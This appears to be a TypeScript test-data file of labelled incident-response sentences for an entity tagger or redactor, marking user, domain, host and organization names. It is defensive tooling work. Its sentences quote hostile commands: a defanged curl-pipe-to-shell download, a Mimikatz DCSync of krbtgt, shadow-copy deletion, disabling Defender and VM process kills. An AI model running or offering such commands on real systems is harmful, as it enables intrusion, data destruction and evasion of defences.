// Identity classes: user names (in context, `DOMAIN\user`, profile and UNC paths), NetBIOS domains, host names
// (FQDNs, short and NetBIOS-style names) and organization names by legal form, with their bare stem.
import { labelled, type LabelledSentence } from "./types";

export const USER_SENTENCES: LabelledSentence[] = [
  labelled("IR ticket 4411 was opened by m.schmidt after the EDR alert on the print server.", { USER: ["m.schmidt"] }, [
    "EDR",
  ]),
  labelled("The suspicious OAuth grant was escalated to j.doe and approved by k_tanaka the next morning.", {
    USER: ["j.doe", "k_tanaka"],
  }),
  labelled(
    "The actor ran `net user m.schmidt /domain` on WKS-FIN-0231 to list the groups of the finance lead.",
    { USER: ["m.schmidt"], HOST: ["WKS-FIN-0231"] },
    ["`net user ", " /domain`"],
  ),
  labelled(
    String.raw`The loader was staged in C:\Users\a.nguyen\AppData\Local\Temp\upd.exe and persisted under HKCU\Software\Microsoft\Windows\CurrentVersion\Run.`,
    { USER: ["a.nguyen"] },
    [String.raw`\AppData\Local\Temp\upd.exe`, String.raw`HKCU\Software\Microsoft\Windows\CurrentVersion\Run`],
  ),
  labelled(
    "They authenticated as svc_sqlbackup with PsExec and dropped a service binary on SRV-SQL-07 (T1569.002).",
    { USER: ["svc_sqlbackup"], HOST: ["SRV-SQL-07"] },
    ["PsExec", "T1569.002"],
  ),
  labelled(
    "An SSH session as user pkowalski was opened to the bastion before `sudo -l` was run (T1548.003).",
    { USER: ["pkowalski"] },
    ["`sudo -l`", "T1548.003"],
  ),
  labelled(
    "The history in /home/rbauer/.bash_history showed `curl -s hxxp://203.0.113[.]50/x.sh | sh` being run.",
    { USER: ["rbauer"] },
    ["/.bash_history", "hxxp://203.0.113[.]50/x.sh"],
  ),
  labelled("Credentials for user l.moreau were sprayed against OWA with Ruler (T1110.003).", { USER: ["l.moreau"] }, [
    "Ruler",
    "T1110.003",
  ]),
  labelled(
    "On macOS the LaunchAgent was written to /Users/tmueller/Library/LaunchAgents/ for persistence (T1543.001).",
    { USER: ["tmueller"] },
    ["/Library/LaunchAgents/", "T1543.001"],
  ),
  labelled(
    "The operator passed `-u jdoe_adm -p` to Impacket's wmiexec.py against FS02.",
    { USER: ["jdoe_adm"], HOST: ["FS02"] },
    ["Impacket", "wmiexec.py"],
  ),
  labelled(
    String.raw`The share \\FS-HQ-01\users$\k.tanaka\Desktop held the exported KeePass database.`,
    { USER: ["k.tanaka"], HOST: ["FS-HQ-01"] },
    ["KeePass", String.raw`\Desktop`],
  ),
  labelled(
    "Suspicious mailbox rules were created while logged in as jdoe.admin from an unmanaged device (T1564.008).",
    { USER: ["jdoe.admin"] },
    ["T1564.008"],
  ),
];

export const DOMAIN_SENTENCES: LabelledSentence[] = [
  labelled(
    String.raw`Logons as CONTOSO\jdoe.admin from JMP01 preceded the Mimikatz run (T1003.001).`,
    { DOMAIN: ["CONTOSO"], USER: ["jdoe.admin"], HOST: ["JMP01"] },
    ["Mimikatz", "T1003.001"],
  ),
  labelled(
    "`runas /user:FABRIKAM\\helpdesk.ops cmd.exe` spawned the shell used for AdFind queries.",
    { DOMAIN: ["FABRIKAM"], USER: ["helpdesk.ops"] },
    ["`runas /user:", "cmd.exe`", "AdFind"],
  ),
  labelled(
    "Mimikatz `lsadump::dcsync /domain:NORTHWIND /user:krbtgt` was run from a workstation.",
    { DOMAIN: ["NORTHWIND"] },
    ["lsadump::dcsync /domain:", "/user:krbtgt"],
  ),
  labelled(
    "BloodHound collection ran as `SharpHound.exe -c All -d WOODGROVE` from the helpdesk VLAN.",
    { DOMAIN: ["WOODGROVE"] },
    ["BloodHound", "SharpHound.exe -c All -d "],
  ),
  labelled(
    String.raw`Event 4624 showed TAILSPIN\svc_backup logging on with logon type 3.`,
    { DOMAIN: ["TAILSPIN"], USER: ["svc_backup"] },
    ["Event 4624", "logon type 3"],
  ),
  labelled(
    "The attacker enumerated trusts of the LITWARE domain with `nltest /domain_trusts` (T1482).",
    { DOMAIN: ["LITWARE"] },
    ["`nltest /domain_trusts`", "T1482"],
  ),
  labelled(
    String.raw`Kerberoasting requests for ADVWORKS\sql_svc were made with Rubeus (T1558.003).`,
    { DOMAIN: ["ADVWORKS"], USER: ["sql_svc"] },
    ["Rubeus", "T1558.003"],
  ),
  labelled(
    'The output of `net group "Domain Admins" /domain` listed FABRIKAM-HQ\\it.admin among the members.',
    { DOMAIN: ["FABRIKAM-HQ"], USER: ["it.admin"] },
    ['`net group "Domain Admins" /domain`'],
  ),
  labelled(
    "A golden ticket was forged for domain CONTOSOCORP with the krbtgt hash (T1558.001).",
    { DOMAIN: ["CONTOSOCORP"] },
    ["krbtgt", "T1558.001"],
  ),
  labelled(
    "`Get-ADUser -Server WINGTIP -Filter *` was run by WINGTIP\\s.okafor during discovery.",
    { DOMAIN: ["WINGTIP"], USER: ["s.okafor"] },
    ["Get-ADUser -Server ", " -Filter *`"],
  ),
];

export const HOST_SENTENCES: LabelledSentence[] = [
  labelled(
    "Lateral movement went from DC01 to SRV-FS-02 over SMB using PsExec (T1021.002).",
    { HOST: ["DC01", "SRV-FS-02"] },
    ["SMB", "PsExec", "T1021.002"],
  ),
  labelled(
    "Beacon traffic from ws-mkt-114.corp.contoso.local reached the C2 over HTTPS.",
    { HOST: ["ws-mkt-114.corp.contoso.local"] },
    ["Beacon", "HTTPS"],
  ),
  labelled(
    "Volume shadow copies were deleted on host FINAPP03 with `vssadmin.exe delete shadows /all /quiet` (T1490).",
    { HOST: ["FINAPP03"] },
    ["`vssadmin.exe delete shadows /all /quiet`", "T1490"],
  ),
  labelled("RDP sessions into JMP-PRD-02 originated from the VPN pool after hours.", { HOST: ["JMP-PRD-02"] }, [
    "RDP",
    "VPN",
  ]),
  labelled(
    "The web shell on owa.fabrikam.com was first reached from 198.51.100.14 (T1505.003).",
    { HOST: ["owa.fabrikam.com"], IP: ["198.51.100.14"] },
    ["T1505.003"],
  ),
  labelled(
    "From LAPTOP-8F3K2Q the actor queried dc02.ad.northwind.internal with AdFind (T1087.002).",
    { HOST: ["LAPTOP-8F3K2Q", "dc02.ad.northwind.internal"] },
    ["AdFind", "T1087.002"],
  ),
  labelled("Cobalt Strike was injected into svchost.exe on WKS-HR-0042 (T1055).", { HOST: ["WKS-HR-0042"] }, [
    "Cobalt Strike",
    "svchost.exe",
    "T1055",
  ]),
  labelled(
    "The ESXi host esx07.dc.woodgrove.lan was encrypted after `esxcli vm process kill` ran.",
    { HOST: ["esx07.dc.woodgrove.lan"] },
    ["ESXi", "`esxcli vm process kill`"],
  ),
  labelled("Backups on NAS-BKP-01 were wiped before the ransom note appeared (T1490).", { HOST: ["NAS-BKP-01"] }, [
    "T1490",
  ]),
  labelled("The attacker moved from the jump host ADM-JUMP-03 to sql01.prod.tailspin.corp with stolen credentials.", {
    HOST: ["ADM-JUMP-03", "sql01.prod.tailspin.corp"],
  }),
];

export const ORG_SENTENCES: LabelledSentence[] = [
  labelled("Contoso Bank AG detected the intrusion when Contoso treasury systems raised alerts.", {
    ORG: ["Contoso Bank AG", "Contoso"],
  }),
  labelled("Fabrikam Inc. reported that the actor used AnyDesk for persistence (T1219).", { ORG: ["Fabrikam Inc."] }, [
    "AnyDesk",
    "T1219",
  ]),
  labelled(
    "The MSP serving Northwind Traders GmbH pushed the payload through its RMM tool (T1072).",
    { ORG: ["Northwind Traders GmbH"] },
    ["RMM", "T1072"],
  ),
  labelled("Woodgrove Financial Ltd staff received the lure; Woodgrove later reset all passwords.", {
    ORG: ["Woodgrove Financial Ltd", "Woodgrove"],
  }),
  labelled(
    "At Tailspin Toys LLC, the actor disabled Defender with `Set-MpPreference -DisableRealtimeMonitoring $true`.",
    { ORG: ["Tailspin Toys LLC"] },
    ["Defender", "`Set-MpPreference -DisableRealtimeMonitoring $true`"],
  ),
  labelled(
    "Litware Health Inc. lost patient data after Citrix Bleed exploitation (CVE-2023-4966).",
    { ORG: ["Litware Health Inc."] },
    ["Citrix Bleed", "CVE-2023-4966"],
  ),
  labelled("Adventure Works Cycles S.A. was hit by LockBit 3.0 affiliates.", { ORG: ["Adventure Works Cycles S.A."] }, [
    "LockBit 3.0",
  ]),
  labelled(
    "Wingtip Logistics plc noticed Cobalt Strike beacons, and the Wingtip SOC isolated the hosts.",
    { ORG: ["Wingtip Logistics plc", "Wingtip"] },
    ["Cobalt Strike"],
  ),
  labelled(
    "Proseware Corp engaged incident response after finding Rclone in C:\\ProgramData.",
    { ORG: ["Proseware Corp"] },
    ["Rclone", "C:\\ProgramData"],
  ),
  labelled(
    "The Fourth Coffee Company Ltd. help desk was socially engineered into resetting MFA (T1656).",
    {
      ORG: ["Fourth Coffee Company Ltd."],
    },
    ["MFA", "T1656"],
  ),
];
